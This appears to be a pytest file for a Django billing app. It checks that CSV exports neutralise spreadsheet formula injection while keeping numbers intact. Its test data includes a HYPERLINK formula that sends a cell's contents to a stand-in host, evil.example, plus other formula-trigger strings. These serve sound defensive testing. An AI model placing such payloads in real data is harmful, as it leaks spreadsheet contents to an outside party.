"""CSV exports are safe to open in a spreadsheet: text from shop and customer data never runs
as a formula (OWASP "CSV injection"), and numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse

from billing.reports import BillingReport, CustomerRow, ReportFilter, RevenueRow, report_csv
from billing.services import quota_claim
from tests.billing.factories import CustomerFactory, SubscriptionFactory, at, package
from tests.factories import ShopFactory

pytestmark = pytest.mark.django_db
MARCH = date(2025, 3, 1)
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1", "-2+3", "@SUM(A1)", "\tTab AB"]


def _download(admin_client, **params) -> list[list[str]]:
    query = {"first_month": "2025-03", "last_month": "2025-03", "separator": "semicolon", "decimal": "comma"}
    response = admin_client.get(reverse("billing:reports_csv"), {**query, **params})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_hostile_customer_names_reach_the_spreadsheet_as_text(admin_client):
    for i, name in enumerate(HOSTILE_NAMES):
        customer = CustomerFactory(name=name)
        ShopFactory(customer=customer, name=name)
        SubscriptionFactory(customer=customer, package=package("100"), start_date=date(2025, 1, 1))
        for n in range(3 + i):
            quota_claim(
                customer=customer, order_key=f"{i}-{n}", arrived_at=at(2025, 3, 5), on=date(2025, 3, 5)
            )

    rows = _download(admin_client, table="customers")
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"'" + name for name in HOSTILE_NAMES}
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
        orders = row[4]
        assert orders.isdigit(), row  # a count stays a bare number
        assert row[5].replace(",", "").isdigit(), row  # an average stays a number with a decimal comma
    # The volume table's counts are numbers too.
    volume = _download(admin_client, table="volume")
    assert volume[1][2] == str(sum(3 + i for i in range(len(HOSTILE_NAMES))))


def test_negative_amounts_stay_numbers_and_only_text_is_neutralised():
    report = BillingReport(
        filter=ReportFilter(first_month=MARCH, last_month=MARCH),
        packages=[("100", "Paket 100")],
        volume=[],
        customers=[
            CustomerRow(
                customer_id=1,
                name="-2+3",
                package_code="@100",
                limit=100,
                months_active=1,
                orders=-1,
                average=Decimal("-1.5"),
                peak_month=MARCH,
                peak_orders=0,
                peak_percent=None,
                months_near_limit=0,
                held=0,
                suggestion="=1+1",
            )
        ],
        revenue=[
            RevenueRow(
                month=MARCH,
                package_code="100",
                amounts={
                    "monthly_fee": Decimal("-250.00"),
                    "installation": Decimal("0"),
                    "extra_shops": Decimal("0"),
                    "hour_pack": Decimal("0"),
                    "owed_hours": Decimal("0"),
                },
                total=Decimal("-250.00"),
            )
        ],
    )
    customers = list(
        csv.reader(io.StringIO(report_csv(report=report, table="customers", bom=False)), delimiter=";")
    )
    row = customers[1]
    assert row[0] == "'-2+3" and row[1] == "'@100" and row[11] == "'=1+1"
    assert row[4] == "-1" and row[5] == "-1,5"  # numbers keep their minus, no apostrophe
    revenue_text = report_csv(report=report, table="revenue", bom=False, decimal_comma=False)
    revenue = list(csv.reader(io.StringIO(revenue_text), delimiter=";"))
    assert revenue[1][2] == "-250.00" and revenue[1][-1] == "-250.00"
